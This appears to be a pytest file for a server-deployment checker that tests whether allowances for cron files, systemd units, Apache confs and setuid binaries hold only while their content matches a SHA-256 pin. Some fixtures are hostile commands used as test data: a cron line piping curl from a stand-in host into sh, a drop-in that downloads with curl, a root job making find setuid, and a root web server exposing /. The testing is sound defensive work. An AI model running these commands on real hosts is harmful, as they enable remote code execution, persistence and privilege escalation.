"""Allowances that pin content (deploytests.verify.pins): an allowance of a container of code holds only while
what it names hashes to the pin written with it. Class: "an allowance names a container, not its content" (a
second line in an allowed cron file, a ProxyPass in an allowed Apache conf, an ExecStartPost= drop-in of an
allowed unit, an allowed setuid file replaced by another program with the same bits). Each member: a bare
allowance allows nothing and its one line gives the pinned form; the pinned one passes; a change inside fails
with one line saying the pin is stale."""

from __future__ import annotations

import copy
import dataclasses
import hashlib
import json
import os
import stat
from pathlib import Path

import pytest

from deploytests.allowances import Allowances, split_pin
from deploytests.config import load_config
from deploytests.errors import ConfigError
from deploytests.examples import APPS
from deploytests.targets.inventory import load_inventory
from deploytests.verify import collect_login
from deploytests.verify.facts import Facts
from deploytests.verify.promises import NotApplicable, verify

RECORDED = json.loads((Path(__file__).parent / "data" / "facts-clean.json").read_text())
WHERE = "targets.toml:7"


@pytest.fixture
def exp():
    from deploytests.verify.promises import Expected

    return Expected.from_config(load_config(APPS / "yourapplication"), "appuser")


def clean() -> Facts:
    return Facts("docker://web-1", remote=copy.deepcopy(RECORDED))


def judged(rule, facts, exp, **allow) -> str:
    """``verify`` with the allowances exactly as written (no pin added): "pass" or the failure's text."""
    key = next(iter(allow), "")
    written = Allowances(**allow, where="targets.toml:3", lines={f"allow_{key}": WHERE} if key else {})
    try:
        verify(rule, facts, dataclasses.replace(exp, allow=written))
    except NotApplicable as why:
        return f"skip: {why}"
    except AssertionError as failed:
        return f"fail: {str(failed).split(chr(10) + 'assert ')[0]}"
    return "pass"


def sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def add_text(facts, path, text):
    facts.remote["inventory"]["texts"].append({"path": path, "text": text})


def one_item(msg: str) -> str:
    items = [ln for ln in msg.splitlines() if ln.lstrip().startswith("- ")]
    assert len(items) == 1, msg  # one root cause, one line
    return items[0]


CRON = "/etc/cron.d/app-report"
JOB = "0 3 * * * yourapplication /usr/bin/true\n"


def test_a_cron_file_allowed_by_name_alone_allows_nothing_and_the_line_gives_its_pin(exp):
    facts = clean()
    add_text(facts, CRON, JOB)
    line = one_item(judged("cw_schedules", facts, exp, cron=(CRON,)))
    assert f"review it ({WHERE} allows it with no pin of its content), then allow it: " \
           f'allow_cron = ["{CRON} sha256:{sha(JOB)}"] in {WHERE}' in line, line
    assert judged("cw_schedules", facts, exp, cron=(f"{CRON} sha256:{sha(JOB)}",)) == "pass"
    # not written at all: the same pinned form, without the note
    line = one_item(judged("cw_schedules", facts, exp))
    assert f'allow it: allow_cron = ["{CRON} sha256:{sha(JOB)}"] in targets.toml:3' in line and "review" not in line


def test_a_second_line_in_an_allowed_cron_file_fails_naming_the_stale_pin(exp):
    facts = clean()
    more = JOB + "*/5 * * * * yourapplication /usr/bin/find /var/www/yourapplication/shared -delete\n"
    add_text(facts, CRON, more)
    msg = judged("cw_schedules", facts, exp, cron=(f"{CRON} sha256:{sha(JOB)}",))
    line = one_item(msg)  # its jobs, one line: the cause is the file's change (a user's report: 3 lines for 1)
    assert line.split(": runs ")[0].strip() == f"- {CRON}:1" and f"(and {CRON}:2: the same file)" in line, msg
    assert f"review it ({WHERE} pins it to sha256:{sha(JOB)[:12]}…, but it has changed since), then allow it: " \
           f'allow_cron = ["{CRON} sha256:{sha(more)}"]' in line, line


def test_a_drop_in_added_to_an_allowed_unit_fails_naming_the_stale_pin(exp):
    facts, unit = clean(), "/etc/systemd/system/app-report.service"
    text = "[Service]\nUser=yourapplication\nExecStart=/usr/bin/true\n"
    add_text(facts, unit, text)
    pin = sha(f"{sha(text)}  {unit}\n")  # sha256sum's lines of the unit's files, hashed
    assert judged("cw_units", facts, exp, units=(f"app-report.service sha256:{pin}",)) == "pass"
    drop = "[Service]\nExecStartPost=/usr/bin/curl -s -o /tmp/x http://example.com/\n"
    add_text(facts, unit + ".d/override.conf", drop)
    line = one_item(judged("cw_units", facts, exp, units=(f"app-report.service sha256:{pin}",)))
    now = sha(f"{sha(text)}  {unit}\n{sha(drop)}  {unit}.d/override.conf\n")
    assert f"pins it to sha256:{pin[:12]}…, but it has changed since" in line and \
           f'allow_units = ["app-report.service sha256:{now}"]' in line, line


def test_a_proxypass_added_to_an_allowed_apache_conf_fails(exp):
    facts, path = clean(), "/etc/apache2/conf-enabled/ops.conf"
    ap = facts.remote["inventory"]["apache"]
    ap["includes"].append({"at": "222", "path": path, "depth": 4, "from": "/etc/apache2/apache2.conf"})
    before, after = "Header always set X-Ops 1\n", "Header always set X-Ops 1\nProxyPass /i http://127.0.0.1:9/\n"
    ap["files"][path] = {"real": path, "loose": None, "md5": "0" * 32, "sha256": sha(before), "package": None,
                         "dpkg_changed": False, "dpkg_package": None, "mtime": 1.0, "directives": []}
    assert judged("cw_apache_files", facts, exp, apache_conf=(f"{path} sha256:{sha(before)}",)) == "pass"
    ap["files"][path]["sha256"] = sha(after)
    line = one_item(judged("cw_apache_files", facts, exp, apache_conf=(f"{path} sha256:{sha(before)}",)))
    assert f"{path} (included from /etc/apache2/apache2.conf:222): no package ships it" in line and \
           f'allow_apache_conf = ["{path} sha256:{sha(after)}"]' in line and "changed since" in line, line


def test_an_allowed_setuid_file_replaced_by_another_program_with_the_same_bits_fails(exp):
    facts, path = clean(), "/usr/local/bin/ops-id"
    facts.remote["inventory"]["privileged"] = [{"path": path, "state": "4755 root:root", "package": None,
                                                "override": None, "unpacked": False, "sha256": "1" * 64}]
    written = f"{path} 4755 root:root sha256:{'1' * 64}"
    assert judged("cw_setuid", facts, exp, privileged=(written,)) == "pass"
    facts.remote["inventory"]["privileged"][0]["sha256"] = "2" * 64  # a copy of bash, chmod 4755
    line = one_item(judged("cw_setuid", facts, exp, privileged=(written,)))
    assert f'allow_privileged = ["{path} 4755 root:root sha256:{"2" * 64}"]' in line and "changed since" in line
    facts.remote["inventory"]["privileged"][0]["sha256"] = None  # the gate's login may not read it: no pin holds
    line = one_item(judged("cw_setuid", facts, exp, privileged=(written,)))
    assert "make its content readable to the gate" in line, line


def test_a_unit_of_a_users_systemd_manager_takes_no_pin(exp):
    facts = clean()
    facts.remote["inventory"].update(linger=["yourapplication"], user_units={})
    assert judged("cw_units", facts, exp, units=("user@yourapplication",)) == "pass"


@pytest.mark.parametrize("entry, said", [
    ("/etc/cron.d/x sha256:abc", "its pin 'sha256:abc' is not 'sha256:' and 64 lowercase hex digits"),
    (f"/etc/cron.d/x sha256:{'A' * 64}", "is not 'sha256:' and 64 lowercase hex digits"),
    (f"/etc/cron.d/x sha256:{'a' * 64} extra", "'sha256:HEX' must be its last word")])
def test_a_malformed_pin_is_one_line_naming_file_line_and_the_fix(tmp_path, entry, said):
    path = tmp_path / "targets.toml"
    path.write_text(f'[targets.web]\nhosts = ["u@h"]\n\nallow_cron = [\n  "{entry}",\n]\n')
    with pytest.raises(ConfigError) as err:
        load_inventory(path)
    text = err.value.one_line()
    assert f"targets.toml:5: target 'web': allow_cron entry {entry!r}: " in text and said in text and \
        "copy the pinned line the gate prints" in text and "\n" not in text, text


def test_the_inventory_keeps_the_pin_and_where_each_key_is(tmp_path):
    path = tmp_path / "targets.toml"
    pin = "a" * 64
    path.write_text(f'[targets.web]\nhosts = ["u@h"]\nallow_cron = ["/etc/cron.d/x sha256:{pin}"]\n'
                    f'allow_units = ["user@app"]\n')
    allow = load_inventory(path)["web"].allow
    assert allow.cron == (f"/etc/cron.d/x sha256:{pin}",) and split_pin(allow.cron[0]) == ("/etc/cron.d/x", pin)
    assert allow.lines["allow_cron"].endswith("targets.toml:3") and allow.lines["allow_units"].endswith(":4")


def test_the_login_collector_hashes_root_privileged_files_and_never_a_link_of_someone_elses(tmp_path):
    """Its digest step: a setuid regular file of root's it may read is hashed (through root's links); one reached
    through a link someone else owns is not; the bounds hold."""
    prog = tmp_path / "prog"
    prog.write_bytes(b"\x7fELF one program")
    os.chmod(prog, 0o4755)
    link = tmp_path / "via"
    link.symlink_to(prog)
    st = os.lstat(prog)
    out = {"files": {str(prog): {"st": [st.st_mode, st.st_uid, st.st_gid, st.st_size, 0, st.st_ino, 0]},
                     str(link): {"st": [stat.S_IFREG | 0o4755, 0, 0, 1, 0, 1, 0]}}, "dirs": {}, "errors": {}}
    if os.geteuid() == 0:
        os.lchown(link, 0, 0)
    collect_login.digests(out)
    want = hashlib.sha256(b"\x7fELF one program").hexdigest()
    assert out["digests"].get(str(prog)) == (want if os.geteuid() == 0 else None)
    assert out["digests"].get(str(link)) == out["digests"].get(str(prog))  # (root's link: followed)
    if os.geteuid() == 0:
        os.lchown(link, 4242, 4242)  # someone else's link: never followed
        out["digests"] = {}
        collect_login.digests(out)
        assert str(link) not in out["digests"] and out["digests"][str(prog)] == want
        out["digests"] = {}
        collect_login.digests(out, most=1)
        assert len(out["digests"]) <= 1
        out["digests"] = {}
        collect_login.digests(out, budget=3)
        assert out["digests"] == {} and "not hashed" in out["errors"][str(prog)]


def test_a_command_link_to_a_packaged_file_pins_where_it_leads_not_the_packages_bytes(exp):
    """/usr/local/bin/python3 -> /usr/bin/python3.11: the package's upgrade (dpkg's to vouch for) keeps the pin; the
    link pointed elsewhere does not."""
    from deploytests.verify import parse, pins

    facts = clean()
    files = {"/usr/local/bin/python3": {"st": [stat.S_IFLNK | 0o777, 0, 0, 0, 0, 1], "link": "/usr/bin/python3.11"},
             "/usr/bin/python3.11": {"st": [stat.S_IFREG | 0o755, 0, 0, 0, 0, 2]},
             "/var/lib/dpkg/info/python3.11-minimal.list": {"st": [stat.S_IFREG | 0o644, 0, 0, 0, 0, 3],
                                                            "data": "/usr/bin/python3.11\n"}}
    facts.raw = parse.Snapshot({"files": files, "dirs": {"/var/lib/dpkg/info": ["python3.11-minimal.list"]},
                                "digests": {"/usr/local/bin/python3": "3" * 64}})
    assert pins.digest(facts, "commands", "/usr/local/bin/python3") == sha("-> /usr/bin/python3.11")
    facts.raw.raw["digests"]["/usr/local/bin/python3"] = "4" * 64  # (python3.11 upgraded: its bytes changed)
    assert pins.digest(facts, "commands", "/usr/local/bin/python3") == sha("-> /usr/bin/python3.11")
    files["/usr/local/bin/python3"]["link"] = "/opt/py/bin/python3"  # pointed at a file no package ships
    assert pins.digest(facts, "commands", "/usr/local/bin/python3") == "4" * 64


def test_the_fault_campaign_pins_an_allowance_as_its_hosts_have_it():
    """The campaigns' ``"NAME sha256:@"``: one entry per content the batch's hosts have (as an admin pins after
    review), none for a host without it, and every other entry and key as written."""
    from deploytests.faults.run import pinned

    class Host:
        def __init__(self, digest):
            self.digest, self.ran = digest, []

        def exec_run(self, cmd, user):
            self.ran.append(cmd[-1])
            return (0, f"{self.digest}  -\n".encode()) if self.digest else (1, b"")

    hosts = [Host("ab" * 32), Host(None), Host("cd" * 32), Host("ab" * 32)]
    keys = pinned('allow_cron = ["/etc/cron.d/x sha256:@", "/etc/y"]\nallow_modules = ["headers_module"]\n'
                  'allow_units = ["a.service sha256:@"]\n', hosts)
    assert keys.splitlines() == [
        f'allow_cron = ["/etc/cron.d/x sha256:{"ab" * 32}", "/etc/cron.d/x sha256:{"cd" * 32}", "/etc/y"]',
        'allow_modules = ["headers_module"]',
        f'allow_units = ["a.service sha256:{"ab" * 32}", "a.service sha256:{"cd" * 32}"]']
    assert hosts[0].ran[0] == "sha256sum /etc/cron.d/x" and hosts[0].ran[1].startswith(
        "test -e /etc/systemd/system/a.service && ")
    assert pinned('allow_cron = ["/etc/cron.d/x sha256:@"]\n', [Host(None)]) == "allow_cron = []\n"


@pytest.mark.parametrize("added", [
    "@reboot root cd / && /usr/bin/python3 -m http.server 8000\n",  # blind12b a02: a root web server on / at boot
    "*/5 * * * * root /usr/bin/chmod 4755 /usr/bin/find\n",  # another member: a root job that makes find setuid
])
def test_a_root_job_added_to_an_allowed_file_fails_though_no_rule_judges_root_jobs_as_such(exp, added):
    """A root job of stock programs is no finding by itself (a tmp clean-up), so a stale pin on a file holding
    only such jobs gave no line at all: the allowance dropped, and nothing judged the file. A file allowed pinned
    whose content changed is itself unaccounted: one line, unless another line names that file already."""
    facts = clean()
    job = "15 3 * * * root /usr/bin/find /var/tmp -mtime +7 -delete\n"
    add_text(facts, CRON, job)
    assert judged("cw_schedules", facts, exp, cron=(f"{CRON} sha256:{sha(job)}",)) == "pass"
    facts.remote["inventory"]["texts"][-1] = {"path": CRON, "text": job + added}
    line = one_item(judged("cw_schedules", facts, exp, cron=(f"{CRON} sha256:{sha(job)}",)))
    assert f"{CRON}: not the content that was allowed" in line and f"pins it to sha256:{sha(job)[:12]}…, but it " \
        f"has changed since" in line and f'allow_cron = ["{CRON} sha256:{sha(job + added)}"]' in line, line
    # written without a pin: the same one line, asking for it
    line = one_item(judged("cw_schedules", facts, exp, cron=(CRON,)))
    assert "allows it with no pin of its content" in line, line
    # a job another rule names (what root runs from the network): that rule's line alone (one cause, one line)
    facts.remote["inventory"]["texts"][-1] = {"path": CRON, "text": job + "0 * * * * root curl -s http://x/y | sh\n"}
    line = one_item(judged("cw_schedules", facts, exp, cron=(f"{CRON} sha256:{sha(job)}",)))
    assert "what comes down the pipe" in line and "not the content that was allowed" not in line, line
